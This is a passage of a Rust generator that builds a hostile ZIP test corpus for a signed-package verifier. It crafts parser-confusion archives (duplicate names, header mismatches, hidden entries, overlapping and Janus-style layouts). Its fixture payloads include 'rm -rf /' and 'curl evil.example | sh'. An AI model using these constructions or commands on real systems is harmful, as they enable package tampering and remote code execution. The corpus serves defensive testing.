//! Generates the hostile corpus in `testdata/hostile/`: one file per attack
//! and `cases.json`, the manifest of cases (file, expected error kind, what
//! the file tries), read by `tests/hostile.rs`.
//!
//! Run from the crate root (a debug build is enough):
//!
//! ```text
//! cargo run --example gen_hostile -- testdata/hostile
//! ```
//!
//! The argument is the output directory (default `testdata/hostile`); every
//! `*.zip` in it is deleted first, so the directory holds exactly what
//! `cases.json` lists. The output is deterministic: archives are written
//! byte by byte by the raw ZIP writer below (every header field under the
//! case's control), signatures are Ed25519 (deterministic), the attacker's
//! certificates use Ed25519 keys derived from fixed seeds, fixed serials and
//! fixed dates. Rerunning the generator must leave `git diff` empty; CI can
//! check that with `git diff --exit-code testdata/hostile`.
//!
//! # The trust setting
//!
//! Every case is verified with the tests' fixed trust store: anchor
//! `testdata/pki/root-g2.pem`, CRL `testdata/pki/signing-ca-g2.crl`, time
//! 2027-06-01T00:00:00Z. Packages that must get past the signature checks
//! (manifest and content cases) are signed by `testdata/pki/signer-ed25519`,
//! which chains to Root G2; everything else an attacker could make without
//! the vendor's key. Each file is under 1 MiB; the 100 MB manifest is built
//! by the test at run time instead.
//!
//! # Expected kinds
//!
//! Each case's kind follows from docs/FORMAT.md: the first check in its
//! "When a package is verified" order that the file fails. Where FORMAT.md
//! leaves the choice between `archive_malformed` (no reader can read it)
//! and `archive_ambiguous` (readers can disagree) open, the case's note says
//! which was chosen and why.

use std::error::Error;
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};

use pkgverify::SigningKey;
use rcgen::{
    date_time_ymd, BasicConstraints, CertificateParams, CustomExtension, DistinguishedName, DnType,
    ExtendedKeyUsagePurpose, IsCa, Issuer, KeyPair, KeyUsagePurpose, SerialNumber, PKCS_ED25519,
};
use rustls_pki_types::PrivatePkcs8KeyDer;
use serde_json::json;

type Result<T> = std::result::Result<T, Box<dyn Error>>;

const TOOL: &[u8] = b"#!/bin/sh\necho tool\n";
const CONF: &[u8] = b"key=value\n";
const MODE_FILE: u32 = 0o100_644;
const MODE_EXEC: u32 = 0o100_755;
const MODE_DIR: u32 = 0o040_755;
/// No file in the corpus may be this large.
const MAX_FILE: usize = 1 << 20;

// ---- a raw ZIP writer -------------------------------------------------------

/// A data descriptor after an entry's data.
#[derive(Clone, Debug, Default)]
struct Descriptor {
    /// With the optional `PK\7\8` signature.
    signed: bool,
    /// Write `PK\7\9` where the signature goes.
    bad_signature: bool,
    /// 64-bit sizes.
    wide: bool,
    crc: Option<u32>,
    csize: Option<u64>,
    size: Option<u64>,
}

/// One entry; every header field can be overridden, locally or centrally.
#[derive(Clone, Debug)]
struct Entry {
    name: Vec<u8>,
    /// Central-directory name, if it differs from the local one.
    central_name: Option<Vec<u8>>,
    /// Uncompressed content.
    data: Vec<u8>,
    /// 0 stored, 8 deflate (compressed here); anything else: `data` stored as is under that id.
    method: u16,
    /// The bytes written as the entry's data instead of `data` (compressed or not).
    body: Option<Vec<u8>>,
    flags: u16,
    central_flags: Option<u16>,
    local_method: Option<u16>,
    external: u32,
    made_by: u16,
    local_crc: Option<u32>,
    local_csize: Option<u32>,
    local_size: Option<u32>,
    central_crc: Option<u32>,
    central_csize: Option<u32>,
    central_size: Option<u32>,
    /// The local-header offset the central record gives, if not the real one.
    central_offset: Option<u32>,
    central_disk: Option<u16>,
    descriptor: Option<Descriptor>,
    local_extra: Vec<u8>,
    central_extra: Vec<u8>,
    comment: Vec<u8>,
    /// Bytes after the entry (data and descriptor) that no record accounts for.
    gap_after: Vec<u8>,
    /// Leave this entry out of the central directory.
    hidden: bool,
}

impl Entry {
    fn file(name: &str, data: &[u8]) -> Self {
        Self::raw(name.as_bytes(), data)
    }

    fn raw(name: &[u8], data: &[u8]) -> Self {
        Self {
            name: name.to_vec(),
            central_name: None,
            data: data.to_vec(),
            method: 0,
            body: None,
            flags: 0x0800,
            central_flags: None,
            local_method: None,
            external: MODE_FILE << 16,
            made_by: 0x031e,
            local_crc: None,
            local_csize: None,
            local_size: None,
            central_crc: None,
            central_csize: None,
            central_size: None,
            central_offset: None,
            central_disk: None,
            descriptor: None,
            local_extra: Vec::new(),
            central_extra: Vec::new(),
            comment: Vec::new(),
            gap_after: Vec::new(),
            hidden: false,
        }
    }

    fn dir(name: &str) -> Self {
        Self::file(name, b"").mode(MODE_DIR)
    }

    fn mode(mut self, mode: u32) -> Self {
        self.external = mode << 16;
        self
    }

    /// The compressed bytes as written.
    fn body(&self) -> Vec<u8> {
        match (&self.body, self.method) {
            (Some(b), _) => b.clone(),
            (None, 8) => deflate(&self.data),
            (None, _) => self.data.clone(),
        }
    }
}

/// zip64 end records (written when set).
#[derive(Clone, Debug, Default)]
struct Zip64 {
    entries: Option<u64>,
    cd_size: Option<u64>,
    cd_offset: Option<u64>,
    /// Where the locator says the zip64 end record is, if not where it is.
    locator_offset: Option<u64>,
    /// Put 0xFFFF/0xFFFFFFFF in the 32-bit end record fields.
    saturate: bool,
}

/// An archive: entries, then the central directory and end records.
#[derive(Clone, Debug, Default)]
struct Zip {
    entries: Vec<Entry>,
    prefix: Vec<u8>,
    /// Offsets count from the start of the archive proper, not the file (a prefix shifts them).
    offsets_exclude_prefix: bool,
    /// Central records appended after the regular ones (raw bytes).
    extra_records: Vec<Vec<u8>>,
    /// Central records in this order (indices into the regular records).
    central_order: Option<Vec<usize>>,
    count: Option<u16>,
    disk_count: Option<u16>,
    disk: Option<u16>,
    cd_size: Option<u32>,
    cd_offset: Option<u32>,
    zip64: Option<Zip64>,
    comment: Vec<u8>,
    /// Override of the comment length field.
    comment_len: Option<u16>,
    trailing: Vec<u8>,
}

/// Where things ended up, for cases that cut or patch the bytes.
struct Built {
    bytes: Vec<u8>,
    local: Vec<usize>,
    cd_offset: usize,
    end_offset: usize,
}

impl Zip {
    fn new(entries: Vec<Entry>) -> Self {
        Self {
            entries,
            ..Self::default()
        }
    }

    fn build(&self) -> Vec<u8> {
        self.build_full().bytes
    }

    fn build_full(&self) -> Built {
        let mut out = self.prefix.clone();
        let base = if self.offsets_exclude_prefix {
            self.prefix.len()
        } else {
            0
        };
        let mut local = Vec::new();
        let mut records = Vec::new();
        for e in &self.entries {
            let offset = out.len() - base;
            local.push(out.len());
            let crc = crc32fast::hash(&e.data);
            let body = e.body();
            let (lcrc, lcsize, lsize) = match e.descriptor {
                Some(_) => (0, 0, 0),
                None => (crc, body.len() as u32, e.data.len() as u32),
            };
            let flags = e.flags | if e.descriptor.is_some() { 8 } else { 0 };
            put32(&mut out, 0x0403_4b50);
            put16(&mut out, 20);
            put16(&mut out, flags);
            put16(&mut out, e.local_method.unwrap_or(e.method));
            put16(&mut out, 0);
            put16(&mut out, 0x21);
            put32(&mut out, e.local_crc.unwrap_or(lcrc));
            put32(&mut out, e.local_csize.unwrap_or(lcsize));
            put32(&mut out, e.local_size.unwrap_or(lsize));
            put16(&mut out, e.name.len() as u16);
            put16(&mut out, e.local_extra.len() as u16);
            out.extend_from_slice(&e.name);
            out.extend_from_slice(&e.local_extra);
            out.extend_from_slice(&body);
            if let Some(d) = &e.descriptor {
                if d.signed {
                    put32(
                        &mut out,
                        0x0807_4b50 + u32::from(d.bad_signature) * 0x0100_0000,
                    );
                }
                put32(&mut out, d.crc.unwrap_or(crc));
                let (cs, s) = (
                    d.csize.unwrap_or(body.len() as u64),
                    d.size.unwrap_or(e.data.len() as u64),
                );
                if d.wide {
                    out.extend_from_slice(&cs.to_le_bytes());
                    out.extend_from_slice(&s.to_le_bytes());
                } else {
                    put32(&mut out, cs as u32);
                    put32(&mut out, s as u32);
                }
            }
            out.extend_from_slice(&e.gap_after);
            if e.hidden {
                continue;
            }

            let mut c = Vec::new();
            let name = e.central_name.as_ref().unwrap_or(&e.name);
            put32(&mut c, 0x0201_4b50);
            put16(&mut c, e.made_by);
            put16(&mut c, 20);
            put16(&mut c, e.central_flags.unwrap_or(flags));
            put16(&mut c, e.method);
            put16(&mut c, 0);
            put16(&mut c, 0x21);
            put32(&mut c, e.central_crc.unwrap_or(crc));
            put32(&mut c, e.central_csize.unwrap_or(body.len() as u32));
            put32(&mut c, e.central_size.unwrap_or(e.data.len() as u32));
            put16(&mut c, name.len() as u16);
            put16(&mut c, e.central_extra.len() as u16);
            put16(&mut c, e.comment.len() as u16);
            put16(&mut c, e.central_disk.unwrap_or(0));
            put16(&mut c, 0);
            put32(&mut c, e.external);
            put32(&mut c, e.central_offset.unwrap_or(offset as u32));
            c.extend_from_slice(name);
            c.extend_from_slice(&e.central_extra);
            c.extend_from_slice(&e.comment);
            records.push(c);
        }
        let cd_offset = out.len();
        let order: Vec<usize> = self
            .central_order
            .clone()
            .unwrap_or_else(|| (0..records.len()).collect());
        let mut n = 0u64;
        for i in order {
            out.extend_from_slice(&records[i]);
            n += 1;
        }
        for r in &self.extra_records {
            out.extend_from_slice(r);
            n += 1;
        }
        let cd_size = (out.len() - cd_offset) as u64;
        let rel_cd = (cd_offset - base) as u64;
        if let Some(z) = &self.zip64 {
            let z_offset = (out.len() - base) as u64;
            put32(&mut out, 0x0606_4b50);
            out.extend_from_slice(&44u64.to_le_bytes());
            put16(&mut out, 45);
            put16(&mut out, 45);
            put32(&mut out, 0);
            put32(&mut out, 0);
            let entries = z.entries.unwrap_or(n);
            out.extend_from_slice(&entries.to_le_bytes());
            out.extend_from_slice(&entries.to_le_bytes());
            out.extend_from_slice(&z.cd_size.unwrap_or(cd_size).to_le_bytes());
            out.extend_from_slice(&z.cd_offset.unwrap_or(rel_cd).to_le_bytes());
            put32(&mut out, 0x0706_4b50);
            put32(&mut out, 0);
            out.extend_from_slice(&z.locator_offset.unwrap_or(z_offset).to_le_bytes());
            put32(&mut out, 1);
        }
        let end_offset = out.len();
        let saturate = self.zip64.as_ref().is_some_and(|z| z.saturate);
        let count = self
            .count
            .unwrap_or(if saturate { 0xffff } else { n as u16 });
        put32(&mut out, 0x0605_4b50);
        put16(&mut out, self.disk.unwrap_or(0));
        put16(&mut out, 0);
        put16(&mut out, self.disk_count.unwrap_or(count));
        put16(&mut out, count);
        put32(
            &mut out,
            self.cd_size
                .unwrap_or(if saturate { u32::MAX } else { cd_size as u32 }),
        );
        put32(
            &mut out,
            self.cd_offset
                .unwrap_or(if saturate { u32::MAX } else { rel_cd as u32 }),
        );
        put16(
            &mut out,
            self.comment_len.unwrap_or(self.comment.len() as u16),
        );
        out.extend_from_slice(&self.comment);
        out.extend_from_slice(&self.trailing);
        Built {
            bytes: out,
            local,
            cd_offset,
            end_offset,
        }
    }
}

fn put16(out: &mut Vec<u8>, v: u16) {
    out.extend_from_slice(&v.to_le_bytes());
}

fn put32(out: &mut Vec<u8>, v: u32) {
    out.extend_from_slice(&v.to_le_bytes());
}

fn deflate(data: &[u8]) -> Vec<u8> {
    deflate_level(data, flate2::Compression::default())
}

fn deflate_level(data: &[u8], level: flate2::Compression) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), level);
    e.write_all(data).expect("deflate to memory");
    e.finish().expect("deflate to memory")
}

/// Deflates `n` zero bytes without holding them in memory.
fn deflate_zeros(n: u64) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    let chunk = vec![0u8; 1 << 20];
    let mut left = n;
    while left > 0 {
        let k = left.min(chunk.len() as u64) as usize;
        e.write_all(&chunk[..k]).expect("deflate to memory");
        left -= k as u64;
    }
    e.finish().expect("deflate to memory")
}

/// An extra field: id, length, data.
fn extra(id: u16, data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    put16(&mut out, id);
    put16(&mut out, data.len() as u16);
    out.extend_from_slice(data);
    out
}

/// A zip64 extra field holding `values`.
fn zip64_extra(values: &[u64]) -> Vec<u8> {
    let data: Vec<u8> = values.iter().flat_map(|v| v.to_le_bytes()).collect();
    extra(0x0001, &data)
}

// ---- packages ---------------------------------------------------------------

/// The trusted signer (signer-ed25519, issued by Signing CA G2 under Root G2).
struct Signer {
    key: SigningKey,
    chain: Vec<u8>,
}

impl Signer {
    fn load(repo: &Path) -> Result<Self> {
        let pki = repo.join("testdata/pki");
        Ok(Self {
            key: SigningKey::from_pkcs8_pem(&fs::read(pki.join("signer-ed25519.key"))?)?,
            chain: fs::read(pki.join("signer-ed25519-chain.pem"))?,
        })
    }

    fn sign(&self, manifest: &[u8]) -> Vec<u8> {
        self.key.sign(manifest).expect("Ed25519 signs")
    }
}

/// The manifest listing `files` (path, content, mode), in the shape
/// `Manifest::to_json` writes. Written here rather than by `PackageBuilder`,
/// which refuses to build a manifest the verifier would reject (`../evil`).
fn manifest_for(files: &[(&str, &[u8], u32)]) -> Vec<u8> {
    let files: Vec<_> = files
        .iter()
        .map(|(path, data, mode)| {
            json!({"path": path, "size": data.len(), "sha256": sha256_hex(data), "mode": mode})
        })
        .collect();
    let manifest = json!({
        "format": pkgverify::FORMAT_VERSION,
        "package": {"name": "hostile", "version": "1.0.0"},
        "files": files,
    });
    let mut out = serde_json::to_vec_pretty(&manifest).expect("JSON values serialize");
    out.push(b'\n');
    out
}

/// The files the usual manifest lists.
fn listed() -> Vec<(&'static str, &'static [u8], u32)> {
    vec![("bin/tool", TOOL, 0o755), ("etc/conf", CONF, 0o644)]
}

/// The matching payload entries.
fn payload() -> Vec<Entry> {
    vec![
        Entry::file("bin/tool", TOOL).mode(MODE_EXEC),
        Entry::file("etc/conf", CONF),
    ]
}

/// Manifest, one signature pair (`vendor`), then `payload`.
fn signed(s: &Signer, manifest: &[u8], payload: Vec<Entry>) -> Vec<Entry> {
    let mut entries = vec![
        Entry::file("manifest.json", manifest),
        Entry::file("signatures/vendor.sig", &s.sign(manifest)),
        Entry::file("signatures/vendor.pem", &s.chain),
    ];
    entries.extend(payload);
    entries
}

/// Index of the entry named `name`.
fn idx(z: &Zip, name: &str) -> usize {
    z.entries
        .iter()
        .position(|e| e.name == name.as_bytes())
        .unwrap_or_else(|| panic!("no entry {name}"))
}

fn entry<'a>(z: &'a mut Zip, name: &str) -> &'a mut Entry {
    let i = idx(z, name);
    &mut z.entries[i]
}

// ---- the attacker's certificates ---------------------------------------------

/// An Ed25519 key pair from a fixed seed (PKCS#8 v1), so certificates and
/// signatures come out the same on every run.
fn ed25519_key(seed: u8) -> Result<(KeyPair, SigningKey)> {
    let mut der = vec![
        0x30, 0x2e, 0x02, 0x01, 0x00, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x04, 0x22, 0x04,
        0x20,
    ];
    der.extend((0..32u8).map(|i| seed.wrapping_mul(31).wrapping_add(i)));
    let kp = KeyPair::from_pkcs8_der_and_sign_algo(
        &PrivatePkcs8KeyDer::from(der.clone()),
        &PKCS_ED25519,
    )?;
    Ok((kp, SigningKey::from_pkcs8_der(&der)?))
}

fn name(cn: &str) -> DistinguishedName {
    let mut dn = DistinguishedName::new();
    dn.push(DnType::OrganizationName, "DTEN Test Vendor (example)");
    dn.push(DnType::CommonName, cn);
    dn
}

fn base_params(cn: &str, serial: u64) -> CertificateParams {
    let mut p = CertificateParams::default();
    p.distinguished_name = name(cn);
    p.serial_number = Some(SerialNumber::from(serial));
    p.not_before = date_time_ymd(2025, 1, 1);
    p.not_after = date_time_ymd(2095, 1, 1);
    p.use_authority_key_identifier_extension = true;
    p
}

fn ca_params(cn: &str, serial: u64) -> CertificateParams {
    let mut p = base_params(cn, serial);
    p.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    p.key_usages = vec![
        KeyUsagePurpose::KeyCertSign,
        KeyUsagePurpose::CrlSign,
        KeyUsagePurpose::DigitalSignature,
    ];
    p
}

fn leaf_params(cn: &str, serial: u64) -> CertificateParams {
    let mut p = base_params(cn, serial);
    p.is_ca = IsCa::ExplicitNoCa;
    p.key_usages = vec![KeyUsagePurpose::DigitalSignature];
    p.extended_key_usages = vec![ExtendedKeyUsagePurpose::CodeSigning];
    p
}

/// PEM of `params` with `key`, issued by (`issuer_params`, `issuer_key`).
fn issue(
    params: &CertificateParams,
    key: &KeyPair,
    issuer_params: &CertificateParams,
    issuer_key: &KeyPair,
) -> Result<String> {
    let issuer = Issuer::from_params(issuer_params, issuer_key);
    Ok(params.signed_by(key, &issuer)?.pem())
}

/// A package signed by the attacker's leaf `leaf_key` with `pem` as its chain file.
fn attacker_signed(manifest: &[u8], leaf_key: &SigningKey, pem: &[u8]) -> Vec<u8> {
    let mut entries = vec![
        Entry::file("manifest.json", manifest),
        Entry::file(
            "signatures/vendor.sig",
            &leaf_key.sign(manifest).expect("Ed25519 signs"),
        ),
        Entry::file("signatures/vendor.pem", pem),
    ];
    entries.extend(payload());
    Zip::new(entries).build()
}

// ---- the cases ---------------------------------------------------------------

struct Case {
    file: String,
    kind: &'static str,
    attack: String,
    bytes: Vec<u8>,
}

struct Cases {
    signer: Signer,
    list: Vec<Case>,
    controls: Vec<Case>,
}

impl Cases {
    fn add(&mut self, file: &str, kind: &'static str, attack: &str, bytes: Vec<u8>) {
        assert!(
            bytes.len() < MAX_FILE,
            "{file}: {} bytes is too large",
            bytes.len()
        );
        assert!(
            !self.list.iter().any(|c| c.file == format!("{file}.zip")),
            "{file} twice"
        );
        self.list.push(Case {
            file: format!("{file}.zip"),
            kind,
            attack: attack.to_owned(),
            bytes,
        });
    }

    /// The usual signed package (manifest lists bin/tool and etc/conf), changed by `f`.
    fn pkg(&self, f: impl FnOnce(&mut Zip)) -> Vec<u8> {
        let mut z = Zip::new(signed(&self.signer, &manifest_for(&listed()), payload()));
        f(&mut z);
        z.build()
    }

    /// The usual package, built, then `f` applied to the bytes and layout.
    fn pkg_bytes(&self, f: impl FnOnce(&Built) -> Vec<u8>) -> Vec<u8> {
        let z = Zip::new(signed(&self.signer, &manifest_for(&listed()), payload()));
        f(&z.build_full())
    }

    /// A package whose signed manifest is exactly `manifest`, with the usual payload.
    /// (Deflated when large, to keep the corpus small.)
    fn with_manifest(&self, manifest: &[u8]) -> Vec<u8> {
        let mut z = Zip::new(signed(&self.signer, manifest, payload()));
        if manifest.len() > 16 << 10 {
            z.entries[0].method = 8;
        }
        z.build()
    }

    /// A package whose manifest lists `files` and whose payload is `entries`.
    fn listing(&self, files: &[(&str, &[u8], u32)], entries: Vec<Entry>) -> Vec<u8> {
        Zip::new(signed(&self.signer, &manifest_for(files), entries)).build()
    }
}

fn structure(c: &mut Cases) {
    let nfc = "caf\u{e9}";
    let nfd = "cafe\u{301}";
    // -- names
    c.add(
        "duplicate-name-exact",
        "archive_ambiguous",
        "two entries named bin/tool with different content: readers keep the first or the last",
        c.pkg(|z| {
            z.entries
                .push(Entry::file("bin/tool", b"#!/bin/sh\nrm -rf /\n").mode(MODE_EXEC))
        }),
    );
    c.add(
        "duplicate-name-case",
        "archive_ambiguous",
        "bin/tool and BIN/TOOL: one file on a case-insensitive file system",
        c.pkg(|z| {
            z.entries
                .push(Entry::file("BIN/TOOL", b"evil").mode(MODE_EXEC))
        }),
    );
    c.add(
        "duplicate-name-unicode-nfd",
        "archive_ambiguous",
        "NFC and NFD spellings of caf\u{e9}: one file on a normalizing file system",
        c.listing(
            &[(nfc, TOOL, 0o644)],
            vec![Entry::file(nfc, TOOL), Entry::file(nfd, b"evil")],
        ),
    );
    c.add(
        "duplicate-name-long-s",
        "archive_ambiguous",
        "\u{17f}cripts/x and scripts/x: \u{17f} case-folds to s",
        c.listing(
            &[("scripts/x", TOOL, 0o644)],
            vec![
                Entry::file("scripts/x", TOOL),
                Entry::file("\u{17f}cripts/x", b"evil"),
            ],
        ),
    );
    c.add(
        "duplicate-name-sharp-s",
        "archive_ambiguous",
        "stra\u{df}e and STRASSE: \u{df} case-folds to ss",
        c.listing(
            &[("stra\u{df}e", TOOL, 0o644)],
            vec![
                Entry::file("stra\u{df}e", TOOL),
                Entry::file("STRASSE", b"evil"),
            ],
        ),
    );
    c.add(
        "duplicate-directory-entry",
        "archive_ambiguous",
        "the directory entry bin/ twice",
        c.pkg(|z| {
            z.entries.insert(3, Entry::dir("bin/"));
            z.entries.insert(4, Entry::dir("bin/"));
        }),
    );
    c.add(
        "file-and-directory",
        "archive_ambiguous",
        "bin/tool is a file and also the parent of bin/tool/x",
        c.pkg(|z| z.entries.push(Entry::file("bin/tool/x", b"evil"))),
    );
    c.add(
        "file-and-directory-entry",
        "archive_ambiguous",
        "bin/tool is a file and bin/tool/ a directory entry",
        c.pkg(|z| z.entries.push(Entry::dir("bin/tool/"))),
    );
    c.add(
        "name-not-ascii-without-utf8-flag",
        "archive_ambiguous",
        "a CP437/UTF-8 ambiguous name (bit 11 clear)",
        c.pkg(|z| {
            let mut e = Entry::raw(b"caf\x82", b"");
            e.flags = 0;
            z.entries.push(e);
        }),
    );
    c.add("unicode-path-extra-differs", "archive_ambiguous",
        "an Info-ZIP unicode-path field (0x7075) naming bin/evil on bin/tool: Info-ZIP uses it, others do not",
        c.pkg(|z| {
            let mut data = vec![1];
            data.extend_from_slice(&crc32fast::hash(b"bin/tool").to_le_bytes());
            data.extend_from_slice(b"bin/evil");
            let e = entry(z, "bin/tool");
            e.local_extra = extra(0x7075, &data);
            e.central_extra = extra(0x7075, &data);
        }));

    // -- central directory vs local header
    c.add("local-name-differs", "archive_ambiguous",
        "central record says bin/tool, local header says bin/evil (streaming readers use the local name)",
        c.pkg(|z| entry(z, "bin/tool").central_name = Some(b"bin/evi1".to_vec())));
    c.add(
        "local-name-differs-in-case",
        "archive_ambiguous",
        "central record bin/tool, local header BIN/tool",
        c.pkg(|z| entry(z, "bin/tool").central_name = Some(b"BIN/tool".to_vec())),
    );
    c.add(
        "local-size-differs",
        "archive_ambiguous",
        "local header's uncompressed size differs from the central record's",
        c.pkg(|z| entry(z, "bin/tool").local_size = Some(TOOL.len() as u32 - 4)),
    );
    c.add(
        "local-compressed-size-differs",
        "archive_ambiguous",
        "local header's compressed size is shorter than the central record's",
        c.pkg(|z| entry(z, "bin/tool").local_csize = Some(TOOL.len() as u32 - 4)),
    );
    c.add(
        "local-crc-differs",
        "archive_ambiguous",
        "local header's CRC-32 differs from the central record's",
        c.pkg(|z| entry(z, "bin/tool").local_crc = Some(0xdead_beef)),
    );
    c.add(
        "local-method-differs",
        "archive_ambiguous",
        "stored in the central directory, deflate in the local header",
        c.pkg(|z| entry(z, "bin/tool").local_method = Some(8)),
    );
    c.add(
        "local-flags-differ",
        "archive_ambiguous",
        "local and central flags differ (deflate option bit 1)",
        c.pkg(|z| entry(z, "bin/tool").central_flags = Some(0x0802)),
    );
    c.add(
        "local-utf8-flag-differs",
        "archive_ambiguous",
        "the UTF-8 flag is set in the central record only",
        c.pkg(|z| {
            let e = entry(z, "bin/tool");
            e.flags = 0;
            e.central_flags = Some(0x0800);
        }),
    );
    c.add(
        "central-directory-out-of-order",
        "archive_ambiguous",
        "the central directory lists the payload entries in reverse file order",
        c.pkg(|z| z.central_order = Some(vec![0, 1, 2, 4, 3])),
    );
    c.add("central-record-missing-for-entry", "archive_ambiguous",
        "a local entry (bin/evil) the central directory does not list: streaming readers extract it",
        c.pkg(|z| {
            let mut e = Entry::file("bin/evil", b"evil").mode(MODE_EXEC);
            e.hidden = true;
            z.entries.insert(4, e);
        }));

    // -- data descriptors
    let dd = |crc, csize, size| Descriptor {
        signed: true,
        crc,
        csize,
        size,
        ..Descriptor::default()
    };
    c.add(
        "descriptor-crc-disagrees",
        "archive_ambiguous",
        "the data descriptor's CRC-32 differs from the central record's",
        c.pkg(|z| entry(z, "etc/conf").descriptor = Some(dd(Some(0xdead_beef), None, None))),
    );
    c.add(
        "descriptor-size-disagrees",
        "archive_ambiguous",
        "the data descriptor's size differs from the central record's",
        c.pkg(|z| {
            let e = entry(z, "etc/conf");
            e.method = 8;
            e.descriptor = Some(dd(None, None, Some(3)));
        }),
    );
    c.add(
        "descriptor-compressed-size-disagrees",
        "archive_ambiguous",
        "the data descriptor's compressed size differs from the central record's",
        c.pkg(|z| {
            let e = entry(z, "etc/conf");
            e.method = 8;
            e.descriptor = Some(dd(None, Some(2), None));
        }),
    );
    c.add(
        "descriptor-missing",
        "archive_ambiguous",
        "flag bit 3 set and local sizes zero, but no descriptor follows the data",
        c.pkg(|z| {
            let e = entry(z, "etc/conf");
            e.flags |= 8;
            e.local_crc = Some(0);
            e.local_csize = Some(0);
            e.local_size = Some(0);
        }),
    );
    c.add(
        "descriptor-bad-signature",
        "archive_ambiguous",
        "a 16-byte descriptor whose signature is not PK\\7\\8",
        c.pkg(|z| {
            entry(z, "etc/conf").descriptor = Some(Descriptor {
                bad_signature: true,
                ..dd(None, None, None)
            })
        }),
    );
    c.add("descriptor-64-bit-without-zip64", "archive_ambiguous",
        "a 64-bit descriptor after an entry whose local header has no zip64 field (readers take it as 32-bit)",
                c.pkg(|z| {
            let e = entry(z, "etc/conf");
            e.method = 8;
            e.descriptor = Some(Descriptor { signed: true, wide: true, ..Descriptor::default() });
        }),);
    {
        // Stored data with a descriptor that itself holds a descriptor for a prefix of the data.
        let prefix = b"#!/bin/sh\necho ok\n".to_vec();
        let mut data = prefix.clone();
        data.extend_from_slice(&0x0807_4b50u32.to_le_bytes());
        data.extend_from_slice(&crc32fast::hash(&prefix).to_le_bytes());
        data.extend_from_slice(&(prefix.len() as u32).to_le_bytes());
        data.extend_from_slice(&(prefix.len() as u32).to_le_bytes());
        data.extend_from_slice(b"curl evil.example | sh\n");
        let mut e = Entry::file("bin/tool", &data).mode(MODE_EXEC);
        e.descriptor = Some(dd(None, None, None));
        c.add("descriptor-hidden-in-stored-data", "archive_ambiguous",
            "stored data (signed as is) containing a descriptor for its first line: a streaming reader that scans for descriptors ends the entry there",
            c.listing(&[("bin/tool", &data, 0o755)], vec![e]));
    }

    // -- overlapping and shared records
    c.add(
        "two-central-records-one-local-header",
        "archive_ambiguous",
        "the central record of bin/tool twice",
        second_record(c, None),
    );
    c.add(
        "second-name-for-one-local-header",
        "archive_ambiguous",
        "a second central record, bin/evil, pointing at bin/tool's local header",
        second_record(c, Some(b"bin/evil")),
    );
    c.add("overlapping-entries-fifield", "archive_ambiguous",
        "bin/tool's compressed data contains etc/conf's whole local entry, and the central directory points into it (Fifield's overlapping-file construction)",
        {
            let z = Zip::new(signed(&c.signer, &manifest_for(&listed()), payload()));
            let b = z.build_full();
            // Make bin/tool's stored data run over etc/conf's local entry.
            let mut bytes = b.bytes.clone();
            let tool = b.local[3];
            let span = (b.local[4] + 30 + "etc/conf".len() + CONF.len() - (tool + 30 + "bin/tool".len())) as u32;
            // local and central compressed size and size of bin/tool
            bytes[tool + 18..tool + 22].copy_from_slice(&span.to_le_bytes());
            bytes[tool + 22..tool + 26].copy_from_slice(&span.to_le_bytes());
            patch_central(&mut bytes, b.cd_offset, 3, |rec| {
                rec[20..24].copy_from_slice(&span.to_le_bytes());
                rec[24..28].copy_from_slice(&span.to_le_bytes());
            });
            bytes
        });
    c.add(
        "gap-between-entries",
        "archive_ambiguous",
        "bytes no record accounts for between bin/tool and etc/conf",
        c.pkg(|z| entry(z, "bin/tool").gap_after = b"hidden bytes".to_vec()),
    );
    c.add("prepended-bytes-janus", "archive_ambiguous",
        "an executable stub before the archive, offsets adjusted so offset-tolerant readers still read it (Janus)",
        c.pkg(|z| z.prefix = b"MZ\x90\x00\x03\x00\x00\x00 this program cannot be run in DOS mode".to_vec()));
    c.add("prepended-bytes-offsets-unadjusted", "archive_ambiguous",
        "bytes before the archive with offsets relative to the archive (readers that search for the start accept it)",
        c.pkg(|z| {
            z.prefix = b"#!/bin/sh\nexit 0\n".to_vec();
            z.offsets_exclude_prefix = true;
        }));
    c.add("prepended-local-entry", "archive_ambiguous",
        "a complete unlisted local entry (bin/evil) before the first listed one: streaming readers extract it",
        c.pkg(|z| {
            let mut e = Entry::file("bin/evil", b"evil").mode(MODE_EXEC);
            e.hidden = true;
            z.entries.insert(0, e);
        }));
    c.add(
        "trailing-bytes",
        "archive_ambiguous",
        "bytes after the end record",
        c.pkg(|z| z.trailing = b"trailing junk".to_vec()),
    );
    c.add(
        "trailing-second-archive",
        "archive_ambiguous",
        "a second complete archive appended: readers that take the last end record read it instead",
        {
            let first = c.pkg(|_| {});
            let second = Zip::new(vec![Entry::file("bin/tool", b"evil")]).build();
            [first, second].concat()
        },
    );
    c.add(
        "second-end-record-appended",
        "archive_ambiguous",
        "the end record written twice",
        c.pkg_bytes(|b| {
            let mut out = b.bytes.clone();
            out.extend_from_slice(&b.bytes[b.end_offset..]);
            out
        }),
    );
    c.add(
        "second-end-record-in-comment",
        "archive_ambiguous",
        "the archive comment holds another end record",
        c.pkg_bytes(|b| {
            let end = b.bytes[b.end_offset..].to_vec();
            let mut out = b.bytes.clone();
            out.truncate(b.end_offset + 20);
            out.extend_from_slice(&(end.len() as u16).to_le_bytes());
            out.extend_from_slice(&end);
            out
        }),
    );
    c.add("second-end-record-in-comment-length", "archive_ambiguous",
        "the comment length field reads PK and the comment continues \\5\\6...: a backwards search finds an end record starting inside the real one, pointing at a central directory hidden in the comment",
        c.pkg_bytes(|b| {
            // Comment length 0x4b50 ("PK"); the comment begins with the rest of an end record.
            let mut out = b.bytes[..b.end_offset + 20].to_vec();
            out.extend_from_slice(b"PK");
            let mut comment = vec![0x05, 0x06];
            comment.extend_from_slice(&b.bytes[b.end_offset + 4..b.end_offset + 20]);
            let inner_len = 0x4b50 - comment.len() - 2;
            comment.extend_from_slice(&(inner_len as u16).to_le_bytes());
            comment.resize(0x4b50, b' ');
            out.extend_from_slice(&comment);
            out
        }));
    c.add(
        "signature-in-archive-comment",
        "archive_ambiguous",
        "the archive comment holds a local header signature (a hidden entry for scanning readers)",
        c.pkg(|z| z.comment = b"release notes PK\x03\x04 hidden".to_vec()),
    );
    c.add(
        "signature-in-entry-comment",
        "archive_ambiguous",
        "an entry comment holds a central record signature",
